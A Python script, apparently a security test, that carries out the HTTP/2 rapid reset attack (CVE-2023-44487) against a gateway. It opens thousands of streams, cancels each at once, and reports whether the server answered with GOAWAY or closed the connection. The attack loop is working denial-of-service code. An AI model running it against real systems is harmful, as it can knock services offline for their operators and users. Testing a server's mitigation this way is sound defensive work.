"""The rapid reset attack (CVE-2023-44487) against the gateway over h2 with a client certificate: opens streams
and resets each at once (HEADERS, then RST_STREAM CANCEL), in a loop, up to --streams. Prints one JSON object:
how many streams it reset before the connection ended, whether a GOAWAY came and with which error code, and
whether the connection was closed."""
import argparse
import json

import h2.config
import h2.connection
import h2.events
import h2.exceptions

from h2_attack import CLOSED, add_connection_arguments, connect, poll, read_until_closed


def main():
    parser = argparse.ArgumentParser()
    add_connection_arguments(parser)
    parser.add_argument("--streams", type=int, default=5000)
    args = parser.parse_args()

    sock = connect(args)
    conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    result = {"reset": 0, "goaway": None, "closed": False}
    headers = [(":method", "GET"), (":path", "/reset"), (":scheme", "https"), (":authority", "localhost")]

    def take(data):
        for event in conn.receive_data(data):
            if isinstance(event, h2.events.ConnectionTerminated):
                result["goaway"] = event.error_code

    sock.settimeout(0.0)
    try:
        for _ in range(args.streams):
            stream = conn.get_next_available_stream_id()
            conn.send_headers(stream, headers, end_stream=True)
            conn.reset_stream(stream, error_code=8)  # CANCEL
            result["reset"] += 1
            sock.sendall(conn.data_to_send())
            if not poll(sock, result, take):
                break
            sock.sendall(conn.data_to_send())
    except CLOSED + (h2.exceptions.ProtocolError,):
        result["closed"] = True
    # Whatever is left: the GOAWAY and the close.
    read_until_closed(sock, result, take, CLOSED + (h2.exceptions.ProtocolError,))
    if result["goaway"] is not None:
        result["goaway"] = int(result["goaway"])
    print(json.dumps(result))


if __name__ == "__main__":
    main()
